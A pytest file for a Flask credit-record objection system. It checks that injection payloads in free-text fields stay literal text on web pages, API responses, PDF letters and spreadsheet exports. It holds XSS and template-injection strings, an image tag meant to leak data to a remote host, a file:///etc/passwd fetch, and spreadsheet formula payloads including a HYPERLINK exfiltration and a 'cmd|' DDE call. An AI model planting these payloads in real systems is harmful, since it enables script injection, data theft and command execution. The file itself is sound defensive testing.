"""XSS and injection payloads in every free-text field stay literal text on every page, export and letter."""
from __future__ import annotations

import csv
import io
import re
import subprocess

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import Case, CreditRecord, HumanTask, Letter, Unit, User
from tests.support.clients import fresh_g, WebClient
from tests.support.files import PDF_BYTES
from tests.support.flows import own_record

# One string carrying the classic breakouts: script and event-handler tags, attribute and textarea escapes,
# a javascript: URL, server-side template syntax, and a remote resource a PDF renderer might fetch.
PAYLOAD = ('<script>alert(1)</script>"><img src=x onerror=alert(2)>\'-alert(3)-\'</textarea><svg onload=alert(4)>'
           '{{7*7}}${7*7}{%raw%}javascript:alert(5)<img src="http://127.0.0.1:9/leak.png">')
SHORT = "<script>alert(1)</script>{{7*7}}"  # for fields of at most 60 characters
DANGEROUS = ("<script>alert", "<img src=x", "<svg onload", "<img src=\"http", "</textarea><")


def assert_inert(html: str, payload: str, where: str) -> None:
    """The payload is shown escaped, exactly once or more, and none of its markup survives as markup."""
    assert str(escape(payload)) in html, f"{where}: payload not shown as text"
    for raw in DANGEROUS:
        assert raw not in html, f"{where}: {raw!r} reached the page unescaped"
    assert str(escape(payload)).replace("{{7*7}}", "49") not in html, f"{where}: template syntax was evaluated"


def page(browser: WebClient, url: str) -> str:
    response = browser.get(url)
    assert response.status_code == 200, url
    assert response.mimetype == "text/html"
    return response.get_data(as_text=True)


def complete(browser: WebClient, task_id: str, values: dict) -> None:
    """Claim a task in the web UI and submit its form, as a person would."""
    browser.post(f"/tasks/{task_id}/claim", form_page=f"/tasks/{task_id}")
    response = browser.post(f"/tasks/{task_id}", data=values)
    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]


def open_task(case_id: int, bpmn_id: str) -> str:
    db.session.expire_all()
    return db.session.scalar(select(HumanTask.id).where(HumanTask.case_id == case_id, HumanTask.bpmn_id == bpmn_id,
                                                        HumanTask.status == "open"))


@pytest.fixture()
def poisoned(seeded, monkeypatch):
    """Cases whose every free-text field holds the payload, filed and worked through the web UI."""
    from app.letters import render

    fetched: list[str] = []
    real_fetcher = render.safe_url_fetcher

    def recording_fetcher(url, *args, **kwargs):
        fetched.append(url)
        return real_fetcher(url, *args, **kwargs)

    monkeypatch.setattr(render, "safe_url_fetcher", recording_fetcher)

    applicant, intake, verifier = (WebClient(seeded, u) for u in ("applicant1", "intake1", "verifier1"))
    record = own_record("applicant1")
    # Objection filed on the portal form: statement; then accepted, verified and drafted with payload opinions.
    response = applicant.post(f"/portal/records/{record.id}", data={
        "action": "objection", "objection-reason": "wrong_content", "objection-statement": PAYLOAD,
        "objection-evidence": (io.BytesIO(PDF_BYTES), "证据.pdf"), "objection-commitment": (io.BytesIO(PDF_BYTES), "承诺书.pdf"),
    }, content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
    objection = db.session.scalar(select(Case).where(Case.type != "registration", Case.record_id == record.id).order_by(Case.id.desc()))
    complete(intake, open_task(objection.id, "intake_review"), {"intake_choice": "accept"})
    complete(verifier, open_task(objection.id, "verify_record"), {
        "verify_choice": "error_confirmed", "proposal": "correct", "opinion": PAYLOAD, "corrected_facts": PAYLOAD,
        "corrected_basis_doc_no": PAYLOAD[:200], "corrected_severity": "minor"})
    complete(intake, open_task(objection.id, "draft_decision"), {"decision": "correct", "reasons": PAYLOAD})

    # A second objection, refused at intake with a payload reason: the 不予受理通知书 carries it.
    applicant_user = db.session.scalar(select(User).where(User.username == "applicant1"))
    others = db.session.scalars(select(CreditRecord).where(
        CreditRecord.subject_unit_id == applicant_user.unit_id, CreditRecord.status == "published",
        CreditRecord.id != record.id).order_by(CreditRecord.id)).all()
    response = applicant.post(f"/portal/records/{others[0].id}", data={
        "action": "objection", "objection-reason": "wrong_content", "objection-statement": "见附件。",
        "objection-evidence": (io.BytesIO(PDF_BYTES), "证据.pdf"), "objection-commitment": (io.BytesIO(PDF_BYTES), "承诺书.pdf"),
    }, content_type="multipart/form-data")
    assert response.status_code == 302
    rejected = db.session.scalar(select(Case).where(Case.type != "registration", Case.record_id == others[0].id))
    complete(intake, open_task(rejected.id, "intake_review"), {"intake_choice": "reject", "reason": PAYLOAD})

    # A rectification order opened on the staff record page: requirements; the unit answers with payloads.
    response = intake.post(f"/records/{others[1].id}", data={"deadline_days": "10", "requirements": PAYLOAD})
    assert response.status_code == 302, response.get_data(as_text=True)[-1500:]
    rect = db.session.scalar(select(Case).where(Case.type != "registration", Case.record_id == others[1].id))
    complete(applicant, open_task(rect.id, "submit_rectification"), {"explanation": PAYLOAD, "report": PAYLOAD})

    # A saved inbox filter with a payload name.
    response = intake.post("/tasks/filters", form_page="/tasks/inbox",
                           data={"name": SHORT, "process": "objection", "shared": "1"})
    assert response.status_code == 302
    db.session.expire_all()
    letters = {l.type: l for l in db.session.scalars(select(Letter))}
    return {"objection": objection, "rejected": rejected, "rect": rect, "letters": letters, "fetched": fetched,
            "applicant": applicant, "intake": intake, "verifier": verifier, "record": record}


def test_staff_pages_show_payloads_as_text(poisoned):
    intake, verifier = poisoned["intake"], poisoned["verifier"]
    for case in (poisoned["objection"], poisoned["rect"], poisoned["rejected"]):
        assert_inert(page(intake, f"/cases/{case.id}"), PAYLOAD, f"intake case {case.number}")
    assert_inert(page(verifier, f"/cases/{poisoned['objection'].id}"), PAYLOAD, "verifier case page")
    review = open_task(poisoned["rect"].id, "review_rectification")
    assert_inert(page(intake, f"/tasks/{review}"), PAYLOAD, "review task page")
    inbox = page(intake, "/tasks/inbox")
    assert_inert(inbox, SHORT, "inbox saved filter")
    assert_inert(page(intake, f"/tasks/inbox?scope=done&name={PAYLOAD}&process={PAYLOAD}"), SHORT, "inbox with junk")


def test_applicant_pages_show_payloads_as_text(poisoned):
    applicant = poisoned["applicant"]
    for case in (poisoned["objection"], poisoned["rect"], poisoned["rejected"]):
        assert_inert(page(applicant, f"/cases/{case.id}"), PAYLOAD, f"applicant case {case.number}")
    cases = page(applicant, "/portal/cases")
    assert all(raw not in cases for raw in DANGEROUS)
    for url in ("/notifications", "/portal/records", f"/portal/records/{poisoned['record'].id}"):
        html = page(applicant, url)
        assert all(raw not in html for raw in DANGEROUS), url


def test_search_boxes_reflect_payloads_as_text(poisoned, seeded):
    anonymous = WebClient(seeded)
    from urllib.parse import quote

    assert_inert(page(anonymous, f"/public/records?q={quote(SHORT)}"), SHORT, "public search")
    assert_inert(page(poisoned["intake"], f"/records/?q={quote(SHORT)}"), SHORT, "staff record search")
    html = page(anonymous, f"/public/records?q=x&category={quote(PAYLOAD)}&severity={quote(PAYLOAD)}&page=1")
    assert all(raw not in html for raw in DANGEROUS)


def test_names_are_shown_as_text_on_public_pages_and_letters(poisoned, seeded):
    """A unit or person whose name is a payload (typed in by an administrator) breaks nothing either."""
    objection = poisoned["objection"]
    unit = db.session.get(Unit, objection.applicant_unit_id)
    unit.name = PAYLOAD[:120]  # unit.name is VARCHAR(120)
    user = db.session.scalar(select(User).where(User.username == "intake1"))
    user.display_name = SHORT
    db.session.commit()
    anonymous = WebClient(seeded)
    assert_inert(page(anonymous, "/public/records?q=script"), PAYLOAD[:120], "public records by unit name")
    assert_inert(page(poisoned["intake"], f"/cases/{objection.id}"), SHORT, "case history user name")
    assert_inert(page(poisoned["intake"], "/tasks/inbox?scope=all"), PAYLOAD[:120], "inbox unit column")
    letter = poisoned["letters"]["acceptance_notice"]
    # The stored letter was rendered before the rename; /v/ shows the stored addressee, a new letter the new one.
    assert page(anonymous, f"/v/{letter.verify_code}")


def test_public_progress_and_verification_show_no_markup(poisoned, seeded):
    anonymous = WebClient(seeded)
    case = poisoned["rejected"]
    unit = db.session.get(Unit, case.applicant_unit_id)
    fresh_g()
    response = anonymous.post("/public/progress", data={"number": case.number, "code": case.query_code,
                                                        "uscc": unit.uscc})
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and case.number in html
    assert all(raw not in html for raw in DANGEROUS)
    for letter in poisoned["letters"].values():
        html = page(anonymous, f"/v/{letter.verify_code}")
        assert all(raw not in html for raw in DANGEROUS)
    junk = anonymous.post("/public/progress", data={"number": PAYLOAD, "code": PAYLOAD, "uscc": PAYLOAD})
    assert junk.status_code in (200, 429) and all(raw not in junk.get_data(as_text=True) for raw in DANGEROUS)
    missing = anonymous.get(f"/v/{SHORT}")
    assert missing.status_code == 404 and all(raw not in missing.get_data(as_text=True) for raw in DANGEROUS)


def test_api_returns_payloads_as_json_never_html(poisoned, api):
    client = api("applicant1")
    response = client.get(f"/api/v1/cases/{poisoned['objection'].id}")
    assert response.status_code == 200 and response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.get_json()["form"]["statement"] == PAYLOAD  # stored verbatim, escaped only where rendered
    bad = client.post("/api/v1/cases", json={"type": PAYLOAD, "record_id": 1})
    assert bad.status_code == 422 and bad.mimetype == "application/json"


def _pdf_text(pdf: bytes, tmp_path) -> str:
    """The letter's text without whitespace or page numbers, so a paragraph split over pages reads on."""
    path = tmp_path / "letter.pdf"
    path.write_bytes(pdf)
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True)
    return re.sub(r"—\d+—", "", re.sub(r"\s+", "", out.stdout.decode("utf-8")))


def test_letters_print_payloads_as_literal_text_and_fetch_nothing(poisoned, tmp_path):
    letters = poisoned["letters"]
    flat = re.sub(r"\s+", "", PAYLOAD)
    for kind in ("rejection_notice", "rectification_notice"):
        text = _pdf_text(letters[kind].pdf, tmp_path)
        assert flat in text, f"{kind}: payload not printed literally"
    # Only the renderer's own whitelisted files may have been requested, and its own QR images (render.qr_png of
    # each letter's verification URL): no http(s), no other data: or file URL.
    from flask import current_app

    from app.letters import render

    base = current_app.config["PUBLIC_BASE_URL"].rstrip("/")
    own_qr = {render.qr_png(f"{base}/v/{letter.verify_code}") for letter in db.session.scalars(select(Letter))}
    assert any(url.startswith("data:") for url in poisoned["fetched"])  # the QR images are fetched this way
    assert all((url.startswith("file://") and "/etc/" not in url and "leak" not in url) or url in own_qr
               for url in poisoned["fetched"])
    # Control: the recording fetcher does see what markup would fetch, so an empty record means nothing was.

    seen = len(poisoned["fetched"])
    render.html_to_pdf('<p>x</p><img src="http://127.0.0.1:9/leak.png"><link rel="stylesheet" href="file:///etc/passwd">')
    assert {u for u in poisoned["fetched"][seen:]} >= {"http://127.0.0.1:9/leak.png", "file:///etc/passwd"}


def test_draft_letter_preview_prints_payload_as_text(poisoned, seeded, tmp_path):
    approver = WebClient(seeded, "approver1")
    task_id = open_task(poisoned["objection"].id, "approve_decision")
    response = approver.get(f"/tasks/{task_id}/preview.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert re.sub(r"\s+", "", PAYLOAD) in _pdf_text(response.data, tmp_path)


FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+2", "\r=1+2"]


def test_exports_neutralise_spreadsheet_formulas(poisoned, seeded):
    """Cells a spreadsheet would run (= + - @ and tab/CR before them) are exported as text."""
    units = db.session.scalars(select(Unit).where(Unit.id.in_(
        select(Case.applicant_unit_id)))).all()
    records = db.session.scalars(select(CreditRecord).where(CreditRecord.id.in_(select(Case.record_id)))).all()
    for i, row in enumerate(units):
        row.name = FORMULAS[i % len(FORMULAS)] + f"#{i}"
    for i, row in enumerate(records):
        row.basis_doc_no = FORMULAS[(i + 1) % len(FORMULAS)][:60]
    db.session.commit()
    staff = poisoned["intake"]
    body = staff.get("/dashboard/cases.csv").get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any("HYPERLINK" in c or "SUM" in c or "cmd|" in c for c in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
    book = load_workbook(io.BytesIO(staff.get("/dashboard/cases.xlsx").data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    figures = staff.get("/dashboard/figures.csv").get_data().decode("utf-8-sig")
    for cell in (c for row in csv.reader(io.StringIO(figures)) for c in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), repr(cell)
